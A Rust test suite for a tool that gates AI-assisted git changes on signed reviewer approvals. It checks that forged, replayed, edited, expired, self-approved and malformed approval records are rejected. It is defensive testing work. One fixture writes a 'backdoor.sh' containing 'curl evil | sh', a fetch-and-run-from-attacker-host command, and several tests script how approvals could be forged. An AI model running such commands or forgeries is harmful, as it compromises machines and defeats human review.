//! Bad input and attacks (issue 3): each is refused or reported with a clear
//! reason, and nothing valid is lost or hidden by it.

use crate::kit::{Team, keygen, reasons, run_with_stdin, statuses};

/// A team with one approved change `feat` (alice) and one pending `other`.
fn setup() -> (Team, String, String) {
    let t = Team::new(&["alice", "bob"]);
    let feat = t.ai_change("feat", "a.txt", "a\n");
    let other = t.ai_change("other", "b.txt", "b\n");
    t.approve("alice", &feat).ok();
    (t, feat, other)
}

#[test]
fn forged_record_signed_by_an_unknown_key_is_refused() {
    let (t, _feat, other) = setup();
    let mallory = t.outsider("mallory");
    // The CLI refuses to sign with a key the policy does not know.
    let r = t.cs_env(
        &[
            "--key",
            mallory.to_str().unwrap(),
            "approve",
            &other,
            "-m",
            "trust me",
        ],
        &[],
    );
    assert_eq!(r.code, 1, "{}", r.stderr);
    assert!(
        r.stderr.contains("not in .countersign/allowed_signers"),
        "{}",
        r.stderr
    );
    assert!(t.note("other").is_empty());
    // A forged record claiming to be alice, written by hand.
    let mut rec = t.template("alice", &other);
    let line = t.sign_with(&mallory, &mut rec);
    t.append_line("other", &line);
    let v = t.check_json("main..other");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("unknown-signer"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(
        statuses(&audit),
        vec!["unknown-signer", "valid"],
        "the valid one stays"
    );
    assert_eq!(t.check_json("main..feat")["ok"], true);
}

#[test]
fn a_record_copied_from_another_commit_is_replayed() {
    let (t, _feat, _other) = setup();
    let line = t.note("feat").lines().next().unwrap().to_string();
    t.append_line("other", &line);
    let v = t.check_json("main..other");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("replayed"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(statuses(&audit), vec!["replayed", "valid"]);
}

#[test]
fn a_record_from_another_repository_is_refused() {
    let (t, _feat, other) = setup();
    let mut rec = t.template("bob", &other);
    rec.repo = "0123456789012345678901234567890123456789".into();
    let line = t.sign_with(&t.key("bob"), &mut rec);
    t.append_line("other", &line);
    let v = t.check_json("main..other");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("another repository"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert!(statuses(&audit).contains(&"wrong-repo".to_string()));
}

#[test]
fn an_edited_comment_or_decision_breaks_the_signature() {
    let (t, _feat, other) = setup();
    t.reject("bob", &other, "unsafe").ok();
    let line = t.note("other").lines().next().unwrap().to_string();
    let edited = line.replace("\"decision\":\"reject\"", "\"decision\":\"approve\"");
    let edited2 = line.replace("unsafe", "fine");
    assert_ne!(edited, line);
    assert_ne!(edited2, line);
    let head = t.head("other");
    t.repo.git(&["notes", "--ref=countersign", "remove", &head]);
    t.append_line("other", &edited);
    t.append_line("other", &edited2);
    let v = t.check_json("main..other");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("bad-signature"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(
        statuses(&audit),
        vec!["bad-signature", "bad-signature", "valid"]
    );
}

#[test]
fn a_key_used_outside_its_validity_window_is_expired() {
    let t = Team::new(&["alice"]);
    // carol's key expired in 2020.
    let carol = keygen(t.keys.path(), "carol", "ed25519", "");
    let pubkey = std::fs::read_to_string(format!("{}.pub", carol.display())).unwrap();
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let mut text = std::fs::read_to_string(&signers).unwrap();
    text.push_str(&format!(
        "carol@example.com valid-after=20190101Z,valid-before=20200101Z {pubkey}"
    ));
    std::fs::write(&signers, text).unwrap();
    t.repo.commit_all("carol (expired)");
    let id = t.ai_change("feat", "a.txt", "a\n");
    let r = t.cs_env(&["--key", carol.to_str().unwrap(), "approve", &id], &[]);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("expired"), "{}", r.stderr);
    // A record signed now, claiming carol, is reported as expired-key.
    let mut rec = t.template("alice", &id);
    rec.reviewer = "carol@example.com".into();
    let line = t.sign_with(&carol, &mut rec);
    t.append_line("feat", &line);
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("expired-key"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(statuses(&audit), vec!["expired-key"]);
}

#[test]
fn a_signature_from_another_namespace_is_refused() {
    let (t, _feat, other) = setup();
    let mut rec = t.template("bob", &other);
    // bob signs the right payload, but for git (e.g. a lifted commit signature).
    let (code, sig, err) = run_with_stdin(
        std::process::Command::new("ssh-keygen")
            .args(["-q", "-Y", "sign", "-n", "git", "-f"])
            .arg(t.key("bob")),
        rec.payload().as_bytes(),
    );
    assert_eq!(code, 0, "{err}");
    rec.sig = sig;
    t.append_line("other", &rec.to_line());
    let v = t.check_json("main..other");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("wrong-namespace"), "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(statuses(&audit), vec!["valid", "wrong-namespace"]);
}

#[test]
fn truncated_and_non_json_lines_are_malformed_and_hide_nothing() {
    let (t, _feat, _other) = setup();
    let good = t.note("feat").lines().next().unwrap().to_string();
    t.append_line("feat", &good[..good.len() / 2]);
    t.append_line("feat", "hello, I am not JSON");
    t.append_line("feat", "[1,2,3]");
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], true, "the valid approval still counts: {v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    assert_eq!(
        statuses(&audit),
        vec!["malformed", "malformed", "malformed", "valid"]
    );
    let details: Vec<String> = audit["decisions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["status"] == "malformed")
        .map(|d| d["detail"].as_str().unwrap().to_string())
        .collect();
    assert!(
        details.iter().all(|d| d.starts_with("line ")),
        "{details:?}"
    );
    assert!(
        details.iter().any(|d| d.contains("not JSON")),
        "{details:?}"
    );
}

#[test]
fn a_huge_note_is_reported_without_hiding_the_valid_record() {
    let (t, _feat, _other) = setup();
    let good = t.note("feat");
    let head = t.head("feat");
    let mut huge = String::new();
    huge.push_str(&"A".repeat(2_000_000));
    huge.push('\n');
    for i in 0..5000 {
        huge.push_str(&format!("junk line {i}\n"));
    }
    huge.push_str(&good);
    let file = t.keys.path().join("huge-note");
    std::fs::write(&file, &huge).unwrap();
    t.repo.git(&[
        "notes",
        "--ref=countersign",
        "add",
        "-f",
        "-F",
        file.to_str().unwrap(),
        &head,
    ]);
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], true, "{v}");
    let (code, audit) = t.audit();
    assert_eq!(code, 1);
    let s = statuses(&audit);
    assert_eq!(s.iter().filter(|x| *x == "valid").count(), 1);
    // At most 100 malformed lines are listed, then one line says how many more.
    assert_eq!(s.iter().filter(|x| *x == "malformed").count(), 101);
    let text = serde_json::to_string(&audit).unwrap();
    assert!(text.contains("longer than"), "the long line is named");
    assert!(text.contains("more malformed lines"));
    // Writing still works on top of a huge note.
    t.approve("bob", &crate::kit::Team::change_id(&t, "feat"))
        .ok();
    assert_eq!(t.records_lenient("feat"), 2);
}

#[test]
fn self_approval_is_refused() {
    // ada (the author of every commit here) is a senior too.
    let t = Team::new(&["alice", "ada"]);
    let id = t.ai_change("feat", "a.txt", "a\n");
    let r = t.approve("ada", &id);
    assert_eq!(r.code, 1);
    assert!(r.stderr.contains("self-approval"), "{}", r.stderr);
    assert!(t.note("feat").is_empty());
    // A self-approval written by hand does not count.
    let mut rec = t.template("alice", &id);
    rec.reviewer = "ada@example.com".into();
    let line = t.sign_with(&t.key("ada"), &mut rec);
    t.append_line("feat", &line);
    let v = t.check_json("main..feat");
    assert_eq!(v["ok"], false);
    assert!(reasons(&v).contains("self-approval"), "{v}");
}

#[test]
fn a_policy_change_inside_the_change_under_review_does_not_apply() {
    let t = Team::new(&["alice"]);
    let mallory = t.outsider("mallory");
    let pubkey = std::fs::read_to_string(format!("{}.pub", mallory.display())).unwrap();
    // The change makes mallory a senior and drops every requirement.
    t.repo.git(&["checkout", "-q", "-b", "evil", "main"]);
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let mut text = std::fs::read_to_string(&signers).unwrap();
    text.push_str(&format!("mallory@example.com {pubkey}"));
    std::fs::write(&signers, text).unwrap();
    t.repo.write(
        ".countersign/policy.toml",
        "self_approval = true\n[approvals]\nlow = 0\nmedium = 0\nhigh = 0\ncritical = 0\n",
    );
    t.repo.write("backdoor.sh", "curl evil | sh\n");
    t.repo.commit_all("tidy\n\nAssisted-by: Claude Code");
    t.repo.git(&["checkout", "-q", "main"]);
    let id = t.repo.cs(&["submit", "evil"]).ok().trim().to_string();
    let r = t.cs_env(&["--key", mallory.to_str().unwrap(), "approve", &id], &[]);
    assert_eq!(r.code, 1, "mallory is not a signer at the base");
    let mut rec = t.template("alice", &id);
    rec.reviewer = "mallory@example.com".into();
    let line = t.sign_with(&mallory, &mut rec);
    t.append_line("evil", &line);
    let v = t.check_json("main..evil");
    assert_eq!(v["ok"], false);
    assert_eq!(v["changes"][0]["level"], "critical");
    assert_eq!(v["changes"][0]["required"], 2, "the base's policy applies");
    assert!(reasons(&v).contains("unknown-signer"), "{v}");
}

#[test]
fn a_missing_key_file_is_bad_input() {
    let (t, _feat, other) = setup();
    let r = t.cs_env(
        &["--key", "/nonexistent/id_ed25519", "approve", &other],
        &[],
    );
    let e = r.bad_input();
    assert!(
        e.contains("/nonexistent/id_ed25519") && e.contains("does not exist"),
        "{e}"
    );
    assert!(t.note("other").is_empty());
}

#[test]
fn a_wrong_passphrase_is_refused_and_nothing_is_written() {
    let t = Team::new(&["alice"]);
    let locked = keygen(t.keys.path(), "locked", "ed25519", "right horse");
    t.repo
        .cs(&[
            "init",
            "--force",
            "--senior",
            &format!("alice@example.com={}.pub", locked.display()),
        ])
        .ok();
    t.repo.commit_all("alice's locked key");
    let id = t.ai_change("feat", "a.txt", "a\n");
    let k = locked.to_str().unwrap();
    use countersign::decision::keys::{KeyLocation, needs_passphrase};
    let at = |p: &std::path::Path| KeyLocation {
        path: Some(p.to_path_buf()),
        literal: None,
        origin: "test",
    };
    assert!(needs_passphrase(&at(&locked)));
    assert!(!needs_passphrase(&at(&t.key("alice"))));
    let r = t.cs_env(
        &["--key", k, "approve", &id],
        &[("COUNTERSIGN_PASSPHRASE", "wrong horse")],
    );
    assert!(r.bad_input().contains("wrong passphrase"), "{}", r.stderr);
    assert!(t.note("feat").is_empty());
    // Without a terminal and without the variable: a clear message, no hang.
    let r = t.cs_env(&["--key", k, "approve", &id], &[]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("passphrase"), "{}", r.stderr);
    let r = t.cs_env(
        &["--key", k, "approve", &id],
        &[("COUNTERSIGN_PASSPHRASE", "right horse")],
    );
    r.ok();
    // The right passphrase signs: one record, alice's, that the gate counts.
    let recs = t.records("feat");
    assert_eq!(recs.len(), 1, "{}", t.note("feat"));
    assert_eq!(recs[0].reviewer, "alice@example.com");
    assert_eq!(recs[0].head, t.head("feat"));
    let (code, audit) = t.audit();
    assert_eq!(code, 0);
    assert_eq!(statuses(&audit), vec!["valid"]);
    assert_eq!(t.check_json("main..feat")["ok"], true);
}

#[test]
fn cert_authority_lines_are_refused_clearly() {
    let t = Team::new(&["alice"]);
    let ca = t.outsider("ca");
    let pubkey = std::fs::read_to_string(format!("{}.pub", ca.display())).unwrap();
    let signers = t.repo.path().join(".countersign/allowed_signers");
    let mut text = std::fs::read_to_string(&signers).unwrap();
    text.push_str(&format!("*@example.com cert-authority {pubkey}"));
    std::fs::write(&signers, text).unwrap();
    t.repo.commit_all("a CA line");
    let id = t.ai_change("feat", "a.txt", "a\n");
    let v = t.check_json("main..feat");
    assert!(reasons(&v).contains("cert-authority"), "{v}");
    // alice's own line still works.
    t.approve("alice", &id).ok();
    assert_eq!(t.check_json("main..feat")["ok"], true);
}

#[test]
fn self_approval_covers_every_commit_of_the_change() {
    let t = Team::new(&["alice", "bob"]);
    t.repo.git(&["checkout", "-q", "-b", "feat", "main"]);
    t.repo.write("a.txt", "a\n");
    t.repo.git(&["add", "-A"]);
    t.repo.git(&[
        "commit",
        "-q",
        "--author",
        "Bob <bob@example.com>",
        "-m",
        "bob's part\n\nAssisted-by: Claude Code",
    ]);
    t.repo.write("b.txt", "b\n");
    t.repo.commit_all("ada's part\n\nAssisted-by: Claude Code");
    t.repo.git(&["checkout", "-q", "main"]);
    let id = t.repo.cs(&["submit", "feat"]).ok().trim().to_string();
    let r = t.approve("bob", &id);
    assert_eq!(r.code, 1, "bob wrote part of it: {}", r.stdout);
    assert!(r.stderr.contains("self-approval"), "{}", r.stderr);
    t.approve("alice", &id).ok();
    assert_eq!(t.check_json("main..feat")["ok"], true);
}
